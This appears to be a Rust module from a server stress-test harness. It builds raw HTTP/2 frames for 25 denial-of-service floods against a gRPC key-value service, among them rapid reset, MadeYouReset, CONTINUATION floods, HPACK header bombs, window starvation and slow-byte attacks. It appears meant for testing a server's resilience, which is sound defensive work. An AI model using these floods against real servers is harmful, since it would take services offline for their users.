//! The floods: what each sends first, and then again and again.

use std::time::Duration;

use mizzen_proto::etcdserverpb::RangeRequest;
use prost::Message as _;

use crate::good::RANGE;

#[derive(PartialEq, Eq)]
pub enum Reading {
    All,
    Nothing,
}

pub struct Flood {
    pub name: &'static str,
    pub what: &'static str,
    pub connections: usize,
    pub reading: Reading,
    pub begin: fn() -> Vec<u8>,
    /// The bytes of a turn; none: there is nothing more to send.
    pub next: fn(u32) -> Vec<u8>,
    /// Before each turn.
    pub pause: Duration,
}

/// A flood at full speed on one connection.
const fn flood(
    name: &'static str,
    what: &'static str,
    begin: fn() -> Vec<u8>,
    next: fn(u32) -> Vec<u8>,
) -> Flood {
    Flood {
        name,
        what,
        connections: 1,
        reading: Reading::All,
        begin,
        next,
        pause: Duration::ZERO,
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;
/// Frames, or requests, of one turn.
const BATCH: u32 = 500;
/// Streams that stay open for floods that need some; servers allow 100 at least.
const OPEN: u32 = 10_000;

pub const FLOODS: [Flood; 25] = [
    flood("settings", "SETTINGS without entries", hello, |_| {
        same(frame(SETTINGS, 0, 0, &[]))
    }),
    flood(
        "settings-windows",
        "SETTINGS of 2,730 windows beside 10,000 open streams",
        many_open,
        windows,
    ),
    flood("ping", "PING", hello, |_| same(frame(PING, 0, 0, &[0; 8]))),
    flood(
        "rapid-reset",
        "requests taken back at once (CVE-2023-44487)",
        hello,
        |turn| each(turn, |id| [range(id, b"hostile/large"), reset(id)].concat()),
    ),
    flood(
        "made-you-reset",
        "requests that the server takes back (CVE-2025-8671)",
        hello,
        |turn| {
            each(turn, |id| {
                [
                    range(id, b"hostile/large"),
                    frame(WINDOW_UPDATE, 0, id, &[0; 4]),
                ]
                .concat()
            })
        },
    ),
    flood(
        "continuation",
        "CONTINUATION without end (CVE-2024-27316)",
        unended_block,
        |_| same(frame(CONTINUATION, 0, 1, &[])),
    ),
    flood(
        "long-block",
        "a header block without end",
        unended_block,
        |_| same(frame(CONTINUATION, 0, 1, &literal(b"x", &[b'y'; 100]))),
    ),
    flood("window-update", "WINDOW_UPDATE of one byte", hello, |_| {
        same(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
    }),
    flood("empty-data", "DATA without data", one_open, |_| {
        same(frame(DATA, 0, 1, &[]))
    }),
    flood("padding", "DATA of padding only", one_open, |_| {
        same(frame(DATA, PADDED, 1, &[7, 0, 0, 0, 0, 0, 0, 0]))
    }),
    flood("empty-headers", "HEADERS without headers", hello, |turn| {
        each(turn, |id| frame(HEADERS, END_HEADERS | END_STREAM, id, &[]))
    }),
    flood("priority", "PRIORITY", hello, |_| {
        same(frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 9]))
    }),
    flood("unknown", "frames of no known kind", hello, |_| {
        same(frame(0x77, 0, 0, &[0; 8]))
    }),
    flood(
        "header-bomb",
        "references to one long entry of the header table",
        hello,
        |turn| few(turn, bomb),
    ),
    flood(
        "many-headers",
        "requests of many small headers",
        hello,
        |turn| few(turn, small_headers),
    ),
    flood(
        "table-size",
        "header tables made small and large again",
        hello,
        |turn| {
            each(turn, |id| {
                request(
                    id,
                    &[b"\x20\x3f\xe1\x1f".to_vec(), head()].concat(),
                    b"nothing",
                )
            })
        },
    ),
    flood(
        "zero-window",
        "ranges over 10 MB, and no window for the replies",
        no_window,
        |turn| {
            once(turn, || {
                (0..2_000)
                    .flat_map(|at| range(2 * at + 1, b"hostile/large"))
                    .collect()
            })
        },
    ),
    flood(
        "tiny-window",
        "a range over 10 MB, its window opened by bytes",
        no_window,
        |turn| match turn {
            0 => range(1, b"hostile/large"),
            _ => same(frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
        },
    ),
    Flood {
        reading: Reading::Nothing,
        ..flood(
            "unread",
            "ranges over 10 MB whose replies are not read",
            wide,
            |turn| {
                once(turn, || {
                    (0..2_000)
                        .flat_map(|at| range(2 * at + 1, b"hostile/large"))
                        .collect()
                })
            },
        )
    },
    Flood {
        // Within the windows that it is given again and again.
        pause: Duration::from_millis(20),
        ..flood(
            "half-bodies",
            "requests of which 1 MiB comes and the end does not",
            hello,
            |turn| half_body(2 * turn + 1),
        )
    },
    flood("requests", "as many gets as go", hello, |turn| {
        each(turn, range_one)
    }),
    Flood {
        connections: 200,
        pause: Duration::from_millis(100),
        ..flood(
            "slow-preface",
            "prefaces that come by bytes",
            Vec::new,
            |turn| {
                PREFACE
                    .get(turn as usize..=turn as usize)
                    .unwrap_or_default()
                    .to_vec()
            },
        )
    },
    Flood {
        connections: 200,
        pause: Duration::from_millis(100),
        ..flood(
            "slow-headers",
            "header blocks that come by bytes",
            unended_block,
            |_| frame(CONTINUATION, 0, 1, b"\0"),
        )
    },
    Flood {
        connections: 200,
        pause: Duration::from_millis(100),
        ..flood("slow-body", "bodies that come by bytes", one_open, |_| {
            frame(DATA, 0, 1, b"\0")
        })
    },
    Flood {
        connections: 200,
        ..flood(
            "half-open",
            "connections on which nothing comes",
            hello,
            |_| Vec::new(),
        )
    },
];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn same(frame: Vec<u8>) -> Vec<u8> {
    frame.repeat(BATCH as usize)
}

/// `make` for each stream of a turn. Streams that have run out are closed ones.
fn each(turn: u32, make: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let first = turn.saturating_mul(BATCH);
    (first..first.saturating_add(BATCH))
        .flat_map(|at| make(at.saturating_mul(2) | 1))
        .collect()
}

/// The same, of large ones.
fn few(turn: u32, make: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (20 * turn..20 * turn + 20)
        .flat_map(|at| make(2 * at + 1))
        .collect()
}

fn once(turn: u32, make: impl Fn() -> Vec<u8>) -> Vec<u8> {
    if turn == 0 { make() } else { Vec::new() }
}

fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut field = vec![0];
    for text in [name, value] {
        field.push(u8::try_from(text.len()).unwrap_or(0) & 0x7f);
        field.extend(text);
    }
    field
}

/// The headers of a range.
fn head() -> Vec<u8> {
    let mut head = vec![0x83, 0x86, 0x04, RANGE.len() as u8];
    head.extend(RANGE.as_bytes());
    head.extend([0x01, 7]);
    head.extend(b"hostile");
    head.extend(literal(b"content-type", b"application/grpc"));
    head.extend(literal(b"te", b"trailers"));
    head
}

fn message(range: &RangeRequest) -> Vec<u8> {
    let message = range.encode_to_vec();
    let mut framed = vec![0, 0, 0, 0, message.len() as u8];
    framed.extend(message);
    framed
}

fn request(id: u32, head: &[u8], key: &[u8]) -> Vec<u8> {
    let range = RangeRequest {
        key: key.to_vec().into(),
        ..RangeRequest::default()
    };
    [
        frame(HEADERS, END_HEADERS, id, head),
        frame(DATA, END_STREAM, id, &message(&range)),
    ]
    .concat()
}

fn range_one(id: u32) -> Vec<u8> {
    request(id, &head(), b"hostile/large/1")
}

/// A range over all keys with a prefix.
fn range(id: u32, prefix: &[u8]) -> Vec<u8> {
    let mut end = prefix.to_vec();
    if let Some(last) = end.last_mut() {
        *last += 1;
    }
    let range = RangeRequest {
        key: prefix.to_vec().into(),
        range_end: end.into(),
        serializable: true,
        ..RangeRequest::default()
    };
    [
        frame(HEADERS, END_HEADERS, id, &head()),
        frame(DATA, END_STREAM, id, &message(&range)),
    ]
    .concat()
}

fn reset(id: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, id, &[0, 0, 0, 8])
}

fn hello() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

fn no_window() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat()
}

/// The largest windows there are.
fn wide() -> Vec<u8> {
    [
        PREFACE,
        &frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]),
        &frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0, 0]),
    ]
    .concat()
}

fn open(id: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, id, &head())
}

fn one_open() -> Vec<u8> {
    [hello(), open(1)].concat()
}

fn many_open() -> Vec<u8> {
    let mut bytes = hello();
    (0..OPEN).for_each(|at| bytes.extend(open(2 * at + 1)));
    bytes
}

fn windows(turn: u32) -> Vec<u8> {
    let mut entries = Vec::new();
    for at in 0..2_730_u32 {
        entries.extend([0, 4]);
        entries.extend((1_000 + (at + turn) % 9).to_be_bytes());
    }
    frame(SETTINGS, 0, 0, &entries)
}

fn unended_block() -> Vec<u8> {
    [hello(), frame(HEADERS, 0, 1, &head())].concat()
}

/// An entry of 4,000 bytes, and as many references to it as a frame takes.
fn bomb(id: u32) -> Vec<u8> {
    let mut block = head();
    if id == 1 {
        block.extend(b"\x40\x01x\x7f\xa1\x1e");
        block.extend([b'y'; 127 + 0x21 + (0x1e << 7)]);
    }
    block.extend([0xbe; 10_000]);
    frame(HEADERS, END_HEADERS | END_STREAM, id, &block)
}

fn small_headers(id: u32) -> Vec<u8> {
    let mut block = head();
    for at in 0..2_500_u32 {
        let name = format!("{at:03x}");
        block.extend([0, name.len() as u8]);
        block.extend(name.as_bytes());
        block.push(0);
    }
    frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        id,
        &block[..block.len().min(16_384)],
    )
}

fn half_body(id: u32) -> Vec<u8> {
    let mut bytes = open(id);
    bytes.extend(frame(DATA, 0, id, b"\0\0\x17\0\0"));
    (0..64).for_each(|_| bytes.extend(frame(DATA, 0, id, &[0; 16_384])));
    bytes
}
